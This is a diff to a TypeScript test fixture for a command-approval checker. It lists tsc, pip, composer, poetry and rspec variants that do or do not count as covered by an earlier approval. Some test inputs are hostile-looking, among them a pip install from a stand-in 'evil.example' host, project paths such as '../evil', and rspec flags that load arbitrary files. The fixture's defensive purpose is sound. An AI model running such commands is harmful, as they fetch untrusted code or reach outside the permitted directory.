@@ -265,7 +265,15 @@ export const keptCases: readonly KeptCase[] = [
   {
     seen: "tsc -b",
     covered: ["tsc", "tsc --noEmit", "tsc -b --watch", "tsc --strict src/a.ts"],
-    asked: ["tsc --outDir /home/me/x", "tsc -p ../evil", "tsc --project evil.json", "tsc --outFile=x.js", "tsc @args"],
+    asked: [
+      "tsc --OUTDIR x",
+      "tsc -outdir x",
+      "tsc --outDir /home/me/x",
+      "tsc -p ../evil",
+      "tsc --project evil.json",
+      "tsc --outFile=x.js",
+      "tsc @args",
+    ],
   },
   { seen: "tsc -p tsconfig.build.json", covered: ["tsc -p tsconfig.build.json"], asked: ["tsc -p evil.json", "tsc"] },
   {
@@ -378,6 +386,21 @@ export const keptCases: readonly KeptCase[] = [
       "pip install --target /home/me x",
       "pip install https://evil.example/x.whl",
     ],
+  },
+  {
+    seen: "composer install",
+    covered: ["composer install --no-dev"],
+    asked: ["composer install -d ../x", "composer install --working=../x", "composer update"],
+  },
+  {
+    seen: "poetry install",
+    covered: ["poetry install --no-root", "poetry install --with dev"],
+    asked: ["poetry install -C ../x", "poetry install --directory ../x"],
+  },
+  {
+    seen: "rspec spec",
+    covered: ["rspec spec/a_spec.rb:12", "rspec -f documentation", "rspec -e name", "rspec --tag focus"],
+    asked: ["rspec -r ./x", "rspec --requ ./x", "rspec -I x", "rspec -o /x"],
   },
   {
     seen: "just test",
